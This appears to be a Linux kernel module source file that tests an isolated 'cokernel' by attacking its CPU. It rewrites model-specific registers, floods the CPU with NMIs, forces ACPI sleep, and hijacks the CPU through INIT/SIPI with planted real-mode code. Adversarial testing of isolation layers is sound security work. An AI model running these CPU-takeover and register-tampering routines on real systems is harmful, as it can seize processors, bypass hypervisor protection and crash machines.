// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on the cokernel's CPU: its registers, and signals from other CPUs.
 */
#include <linux/acpi.h>
#include <linux/cpuhotplug.h>
#include <linux/delay.h>
#include <linux/kernel.h>
#include <linux/serial_reg.h>
#include <linux/smp.h>
#include <linux/string.h>
#include <asm/apic.h>
#include <asm/io.h>
#include <asm/msr.h>
#include <asm/nmi.h>
#include <asm/smp.h>
#include <asm/trapnr.h>

#include "root.h"

static struct rewrite {
	const char *name;
	u32 msr;
	u64 flip;
	u64 was, is;
	int error;
} rewrites[] = {
	{ "efer", MSR_EFER, EFER_SVME },
	{ "efer-reserved", MSR_EFER, BIT_ULL(16) },
	{ "efer-lmsle", MSR_EFER, BIT_ULL(13) },
	{ "unknown", 0xc0003000, 1 },	/* in no permission map of SVM */
	{ "mtrr", MSR_MTRRdefType, BIT(10) },	/* fixed ranges */
	{ "microcode", MSR_AMD64_PATCH_LOADER, PAGE_SIZE },
	{ "mmconfig", MSR_FAM10H_MMIO_CONF_BASE, 1 },
	{ "tsc-ratio", 0xc0000104, 1 },
	{ "debugctl", MSR_IA32_DEBUGCTLMSR, DEBUGCTLMSR_LBR },
	{ "hsave", MSR_VM_HSAVE_PA, PAGE_SIZE },
	{ "vm-cr", MSR_VM_CR, BIT(1) },		/* INIT becomes an exception */
	{ "apic-base", MSR_IA32_APICBASE, PAGE_SIZE },
};

/* Called on the cokernel's CPU with interrupts off. */
static void rewrite_here(void *data)
{
	struct rewrite *r = data;

	/* A register that cannot be read may take a write all the same. */
	rdmsrl_safe(r->msr, &r->was);
	r->is = r->was;
	r->error = wrmsrl_safe(r->msr, r->was ^ r->flip);
	if (!r->error)
		r->error = rdmsrl_safe(r->msr, &r->is);
	if (r->is != r->was)
		wrmsrl_safe(r->msr, r->was);
}

int root_msr(struct kyozon *k, char *name)
{
	size_t i;

	for (i = 0; i < ARRAY_SIZE(rewrites); i++) {
		struct rewrite *r = &rewrites[i];

		if (strcmp(r->name, name))
			continue;
		smp_call_function_single(k->cpu, rewrite_here, r, 1);
		root_report("msr %s %s was %#llx is %#llx", name,
			 r->error ? "faults" : r->is == r->was ? "stays" : "changes",
			 r->was, r->is);
		return r->error;
	}
	return -EINVAL;
}

static void send(unsigned int cpu, u32 mode)
{
	u32 id = per_cpu(x86_cpu_to_apicid, cpu);
	unsigned long flags;

	local_irq_save(flags);
	if (x2apic_mode) {
		native_x2apic_icr_write(mode, id);
	} else {
		while (native_apic_mem_read(APIC_ICR) & APIC_ICR_BUSY)
			cpu_relax();
		native_apic_mem_write(APIC_ICR2, id << 24);
		native_apic_mem_write(APIC_ICR, mode);
	}
	local_irq_restore(flags);
}

#define SLEEP_S3	(1 << 10)	/* QEMU's number of S3 */
#define SLEEP_BEGIN	BIT(13)

/* If it works, the machine sleeps here, and memory keeps its contents. */
int root_sleep(struct kyozon *k, char *unused)
{
	u32 port = acpi_gbl_FADT.pm1a_control_block;
	u16 was;

	if (!port)
		return -ENODEV;
	was = inw(port);
	outw(was | SLEEP_S3 | SLEEP_BEGIN, port);
	outw(was, port);
	root_report("sleep by port %#x", port);
	return 0;
}

/* What the cokernel sends meanwhile comes back into the port. */
int root_serial(struct kyozon *k, char *argument)
{
	unsigned int port;
	u8 was, is;

	if (kstrtouint(argument, 0, &port) || port > 0xfff8)
		return -EINVAL;
	was = inb(port + UART_MCR);
	outb(was | UART_MCR_LOOP, port + UART_MCR);
	is = inb(port + UART_MCR);
	outb(was, port + UART_MCR);
	root_report("serial %s was %#x is %#x", is == was ? "stays" : "changes",
		    was, is);
	return 0;
}

static atomic_t seen;

/* Claims the NMIs, so that Linux does not report them as unknown. */
static int count_nmi(unsigned int type, struct pt_regs *regs)
{
	atomic_inc(&seen);
	return NMI_HANDLED;
}

static void send_nmi(struct kyozon *k)
{
	send(k->cpu, APIC_DM_NMI);
}

int root_nmis(struct kyozon *k, char *argument)
{
	unsigned int ms;
	int error;

	if (kstrtouint(argument, 0, &ms) || ms > HOLD_MAX_MS)
		return -EINVAL;
	atomic_set(&seen, 0);
	error = register_nmi_handler(NMI_LOCAL, count_nmi, 0, "kyozon-attacks");
	if (error)
		return error;
	root_wait(ms, send_nmi, k);
	msleep(20);
	unregister_nmi_handler(NMI_LOCAL, "kyozon-attacks");
	root_report("nmis for %u ms, seen %d", ms, atomic_read(&seen));
	return 0;
}

#define LOW_PAGE	0x8000	/* Linux leaves the first MiB alone */
#define LOW_MARK	0x100

/* Afterwards the attacker has that CPU, with no hypervisor below. An NMI starts the code, too. */
int root_init(struct kyozon *k, char *unused)
{
	static const u8 code[] = {
		0x2e, 0xc7, 0x06, 0x00, 0x01, 0x50, 0x51, /* movw $0x5150, %cs:0x100 */
		0xf4,					/* 1: hlt */
		0xeb, 0xfd,				/* jmp 1b */
	};
	u8 *page = __va(LOW_PAGE);
	u16 *mark = (u16 *)(page + LOW_MARK), *vector = __va(4 * X86_TRAP_NMI);

	if (get_cpu() == k->cpu) {
		put_cpu();
		return -EINVAL;
	}
	memcpy(page, code, sizeof(code));
	WRITE_ONCE(*mark, 0);
	vector[0] = 0;
	vector[1] = LOW_PAGE >> 4;
	send(k->cpu, APIC_DM_INIT | APIC_INT_LEVELTRIG | APIC_INT_ASSERT);
	mdelay(10);
	send(k->cpu, APIC_DM_STARTUP | LOW_PAGE >> PAGE_SHIFT);
	mdelay(100);
	put_cpu();
	root_report("init CPU %u: our code %s", k->cpu,
		 READ_ONCE(*mark) == 0x5150 ? "runs" : "does not run");
	return 0;
}

int root_hotplug(struct kyozon *k, char *unused)
{
	int *state = (void *)symbol("kyozon:hotplug_state");

	if (!state)
		return -ENOENT;
	__cpuhp_remove_state(*state, false);
	root_report("hotplug state %d removed", *state);
	return 0;
}
